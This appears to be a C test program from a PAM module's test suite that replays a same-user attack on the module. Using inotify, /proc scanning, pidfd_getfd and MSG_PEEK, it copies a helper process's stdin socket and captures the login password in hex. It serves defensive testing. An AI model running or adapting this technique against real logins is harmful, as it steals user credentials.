/*
 * pam-stdin-thief: the attack that Tests/EndToEndTests/PAM/PAMHelperExecRaceTests.swift replays
 * against pam_keychain.so (docs/pam.md, "Who could take it"). It runs as the user logging in, as
 * any other program of theirs could, and tries to read the login password the module writes on
 * keychain-pam-helper's standard input, without taking it away (the login goes on as if nothing
 * happened):
 *
 *   1. wait, with inotify on its folder, until the helper's executable is opened (execve opens it);
 *   2. find the process that runs it (its name, /proc/PID/comm, becomes the file's at exec);
 *   3. copy its standard input into this process (pidfd_open, pidfd_getfd: allowed when this
 *      process may ptrace it, which for a process of the same user means "it is dumpable");
 *   4. look at what waits on that socket with recv(MSG_PEEK), which leaves it for the helper.
 *
 *   pam-stdin-thief FILE
 *
 * FILE is the executable to watch (an absolute path). Prints, one line each, on standard output:
 *   ready                 the watch is in place
 *   refused PID ERRNO     pidfd_getfd on the helper failed (printed once per process)
 *   peeked PID HEX        what stood on the helper's standard input, in hex (nothing: no line)
 *   missed [PID]          the file was opened, but no helper process was found (or it was gone
 *                         before it could be opened); the watch goes on
 *   ended PID             the helper process is gone; the program exits 0
 *   timeout               no helper process came and went within 30 seconds; exit 3
 * Test code only: it is built by the test with the system's cc and never installed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* The same numbers on every architecture (the common syscall table, Linux 5.3 and 5.6). */
#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/* The kernel keeps 15 bytes of the executable's name as the process's comm. */
static const char helper_comm[] = "keychain-pam-he";

static long long now_ms(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (long long)now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

/* Reads the start of /proc/PID/NAME (readable for every process, dumpable or not). */
static ssize_t read_proc(const char *pid, const char *name, char *text, size_t size)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/%s", pid, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t got = read(fd, text, size - 1);
    close(fd);
    text[got > 0 ? got : 0] = '\0';
    return got;
}

/* Whether the process is a helper run for this user: its name is the helper's, its real uid ours
 * (other tests may run helpers of their own as root at the same time). */
static int is_helper(const char *pid)
{
    char text[2048];
    if (read_proc(pid, "comm", text, sizeof text) < (ssize_t)(sizeof helper_comm - 1) ||
        memcmp(text, helper_comm, sizeof helper_comm - 1) != 0)
        return 0;
    if (read_proc(pid, "status", text, sizeof text) <= 0)
        return 0;
    const char *uid = strstr(text, "\nUid:");
    return uid != NULL && strtoul(uid + 5, NULL, 10) == (unsigned long)getuid();
}

/* Scans /proc for a helper process; its pid, or 0. */
static pid_t find_helper(void)
{
    DIR *proc = opendir("/proc");
    if (proc == NULL)
        return 0;
    pid_t found = 0, self = getpid();
    for (struct dirent *entry = readdir(proc); entry != NULL && found == 0; entry = readdir(proc)) {
        if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
            continue;
        pid_t pid = (pid_t)atoi(entry->d_name);
        if (pid != self && is_helper(entry->d_name))
            found = pid;
    }
    closedir(proc);
    return found;
}

/* Peeks at the copied socket until the helper has taken what was there (or it ends); prints the
 * most that stood there at once. */
static void peek(pid_t pid, int pidfd, int fd)
{
    static unsigned char best[32768], seen[32768];
    ssize_t most = 0;
    for (long long until = now_ms() + 5000; now_ms() < until;) {
        ssize_t got = recv(fd, seen, sizeof seen, MSG_PEEK | MSG_DONTWAIT);
        if (got > most) {
            most = got;
            memcpy(best, seen, (size_t)got);
        }
        if (got == 0 || (got < 0 && errno != EAGAIN && errno != EINTR))
            break; /* end of input: the module has closed its side and the helper read it all */
        if (got < 0 && most > 0)
            break; /* the helper has read it */
        struct pollfd watched[2] = { { .fd = fd, .events = POLLIN }, { .fd = pidfd, .events = POLLIN } };
        if (poll(watched, 2, 10) > 0 && (watched[1].revents & POLLIN) && !(watched[0].revents & POLLIN))
            break; /* the helper ended */
    }
    if (most > 0) {
        printf("peeked %d ", (int)pid);
        for (ssize_t i = 0; i < most; i++)
            printf("%02x", best[i]);
        printf("\n");
    }
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: pam-stdin-thief FILE\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    /* The folder, not the file: watching a file needs read permission on it, which the installed
     * helper does not give; a folder's watch reports the opens of every file in it, by name. */
    char *folder = strdup(argv[1]);
    char *slash = folder != NULL ? strrchr(folder, '/') : NULL;
    if (slash == NULL || slash[1] == '\0') {
        fprintf(stderr, "pam-stdin-thief: FILE must be an absolute path\n");
        return 2;
    }
    const char *name = argv[1] + (slash - folder) + 1;
    *slash = '\0';
    int watch = inotify_init1(IN_CLOEXEC);
    if (watch < 0 || inotify_add_watch(watch, folder[0] != '\0' ? folder : "/", IN_OPEN | IN_ACCESS) < 0) {
        perror("pam-stdin-thief: inotify");
        return 1;
    }
    printf("ready\n");
    long long deadline = now_ms() + 30000;
    while (now_ms() < deadline) {
        struct pollfd event = { .fd = watch, .events = POLLIN };
        if (poll(&event, 1, 100) <= 0)
            continue;
        char buffer[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
        ssize_t got = read(watch, buffer, sizeof buffer);
        int opened = 0;
        for (ssize_t at = 0; got > 0 && at + (ssize_t)sizeof(struct inotify_event) <= got;) {
            const struct inotify_event *change = (const struct inotify_event *)(buffer + at);
            if (change->len > 0 && strcmp(change->name, name) == 0)
                opened = 1;
            at += (ssize_t)sizeof(struct inotify_event) + change->len;
        }
        if (!opened)
            continue;
        /* The file is being executed: look for its process as fast as possible, for a few seconds. */
        pid_t pid = 0;
        for (long long until = now_ms() + 3000; pid == 0 && now_ms() < until;)
            pid = find_helper();
        if (pid == 0) {
            printf("missed\n");
            continue;
        }
        int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
        if (pidfd < 0) {
            printf("missed %d\n", (int)pid); /* gone already */
            continue;
        }
        int reported = 0;
        for (;;) {
            int fd = (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
            if (fd >= 0) {
                struct stat status;
                if (fstat(fd, &status) == 0 && S_ISSOCK(status.st_mode))
                    peek(pid, pidfd, fd);
                close(fd);
                break;
            }
            if (!reported) {
                printf("refused %d %d\n", (int)pid, errno);
                reported = 1;
            }
            if (errno == ESRCH)
                break;
            struct pollfd ended = { .fd = pidfd, .events = POLLIN };
            if (poll(&ended, 1, 0) > 0)
                break;
        }
        struct pollfd ended = { .fd = pidfd, .events = POLLIN };
        (void)poll(&ended, 1, 10000);
        close(pidfd);
        printf("ended %d\n", (int)pid);
        return 0;
    }
    printf("timeout\n");
    return 3;
}
